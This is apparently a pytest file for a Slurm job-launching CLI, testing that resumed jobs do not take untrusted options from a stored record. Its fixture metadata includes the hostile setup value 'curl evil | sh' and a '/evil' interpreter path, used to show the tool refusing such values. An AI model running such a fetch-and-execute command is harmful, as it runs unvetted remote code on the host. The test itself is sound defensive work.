"""What only a record chooses of a launch on Slurm is asked for; what this machine launched is known."""

from __future__ import annotations

import json
import shlex
from pathlib import Path

import pytest

from support.cli import Cli, Remote, add
from support.runs import code, place, record, sets_of, study
from support.slurm_commands import FakeSlurm, waiting

NOTES = {
    "slurm_job_id": "9", "slurm_cluster": "lab", "slurm_partition": "prod", "slurm_account": "p1", "slurm_qos": "high",
    "slurm_setup": "curl evil | sh", "slurm_sbatch_arg": "--reservation=x", "slurm_python": "/evil", "slurm_time": "2h",
}  # fmt: skip

CHOICES = (
    "engine:slurm", "partition:prod", "account:p1", "qos:high", "setup:curl evil | sh", "sbatch-arg:--reservation=x",
    "python:/evil",
)  # fmt: skip


@pytest.fixture
def slurm(cli: Cli, tmp_path: Path) -> FakeSlurm:
    """Return a Slurm that takes each job as number 12."""
    fake = FakeSlurm(tmp_path / "bin")
    fake.says("sbatch", "12\n")
    cli.env.update(fake.env)
    return fake


@pytest.mark.claim("Options of Slurm come from no record")
def test_resume_launches_nothing_on_slurm_that_only_the_record_chooses(
    cli: Cli, remote: Remote, slurm: FakeSlurm
) -> None:
    """Each value is named, with the flags to type. With them, or with flags of its own, it is launched."""
    add(remote.jobs, "job", "failed", engine="slurm", metadata=NOTES)
    place(remote.store.inner, "job", study(sets_of(3)), code(Path("code")))
    ran = cli("resume", "job")
    assert ran.code == 6
    flags = shlex.split(ran.err.partition("add: ")[2])
    assert sorted(flags[1::2]) == sorted(CHOICES)
    assert slurm.asked == []
    assert cli.ok("resume", "job", *flags).out == "job.2\n"
    submitted = next(line for line in slurm.asked if line.startswith("sbatch"))
    assert " --time=120 --partition=prod --account=p1 --qos=high --no-requeue" in submitted
    assert (Path(cli.env["HOME"]) / ".local/state/mops-jobs/jobs/job.2/slurm.sh").read_text().count(
        "curl evil | sh"
    ) == 1


def test_what_this_machine_launched_on_slurm_needs_no_question(cli: Cli, remote: Remote, slurm: FakeSlurm) -> None:
    """The record has the array and its place. Later launches repeat the options, and cancel stops the array."""
    code(Path.cwd())
    Path("study.json").write_text(json.dumps(study(sets_of(3)).to_dict()))
    flags = ("--engine", "slurm", "--setup", "module load gcc", "--account", "p1", "--mem", "1G", "--python", "/p")
    cli.ok("submit", "study.json", "--auto", "--job-id", "mine", "--shards", "3", *flags)
    shown = record(remote.jobs, "mine")
    assert (shown.status, shown.engine) == ("scheduled", "slurm")
    assert shown.metadata.items() >= {"slurm_job_id": "12", "slurm_memory": "1G", "slurm_shards": "3"}.items()
    assert "Slurm      job 12 of lab\n" in cli.ok("status", "mine").out
    line = waiting().replace("seir-1", "mine")
    slurm.says("scontrol", "ClusterName = lab\n", show_job_12=f"echo '{line}'")
    assert cli.ok("cancel", "mine").err == "mine: cancelled, stopped\n"
    slurm.says("scontrol", "ClusterName = lab\n")
    assert cli.ok("resume", "mine", "--mem", "x2").out == "mine.2\n"
    again = [line for line in slurm.asked if line.startswith("sbatch")][-1]
    assert " --array=0-2 --nodes=1 --ntasks=1 --cpus-per-task=1 --mem=2048M --account=p1 " in again


def test_a_job_of_another_cluster_is_not_launched_here(cli: Cli, remote: Remote, slurm: FakeSlurm) -> None:
    """Its array may be at work there, and would run beside a second one."""
    notes = {"slurm_job_id": "9", "slurm_cluster": "far"}
    add(remote.jobs, "job", "running", engine="slurm", metadata=notes)
    place(remote.store.inner, "job", study(sets_of(3)), code(Path("code")))
    ran = cli("resume", "job", "--trust", "engine:slurm")
    assert ran.code == 6
    assert "Job job may be running: it runs on cluster far, and this is lab." in ran.err
    assert not [line for line in slurm.asked if line.startswith("sbatch")]


def test_cancel_tells_how_to_stop_an_array_by_its_name(cli: Cli, remote: Remote, slurm: FakeSlurm) -> None:
    """A record may name the number of any job."""
    add(remote.jobs, "job", "running", engine="slurm", metadata={"slurm_job_id": "99"})
    slurm.says("scontrol", "Unable to contact slurm controller\n", code=1)
    said = cli("cancel", "job").err
    assert "By hand: scancel --name=job.mops-jobs --user=$USER" in said
    assert "99" not in said


def test_a_resumed_job_is_not_held_as_the_first_launch_was(cli: Cli, remote: Remote, slurm: FakeSlurm) -> None:
    """Nor does it wait for a time or for another job again. Other flags of sbatch are repeated.

    What is not repeated is named. The flag can be given again.
    """
    code(Path.cwd())
    Path("study.json").write_text(json.dumps(study(sets_of(3)).to_dict()))
    flags = [f"--sbatch-arg={flag}" for flag in ("--hold", "--nice=100", "--dependency=afterok:3", "--beg=now+1hour")]
    cli.ok("submit", "study.json", "--auto", "--job-id", "mine", "--engine", "slurm", *flags)
    cli.ok("cancel", "mine")
    resumed = cli.ok("resume", "mine")
    start = "--hold --dependency=afterok:3 --beg=now+1hour"
    assert resumed.err.splitlines()[0] == (
        f"warning: The job was submitted with {start}, and is now without. To use it again:"
        " --sbatch-arg=--hold --sbatch-arg=--dependency=afterok:3 --sbatch-arg=--beg=now+1hour"
    )
    submitted = [line for line in slurm.asked if line.startswith("sbatch")]
    assert [" --hold" in line for line in submitted] == [True, False]
    assert all(" --nice=100 " in line for line in submitted)
    assert record(remote.jobs, "mine.2").metadata["slurm_sbatch_arg"] == "--nice=100"
    cli.ok("cancel", "mine.2")
    assert cli.ok("resume", "mine.2", "--sbatch-arg=--hold").out == "mine.3\n"
    assert " --hold " in [line for line in slurm.asked if line.startswith("sbatch")][-1]
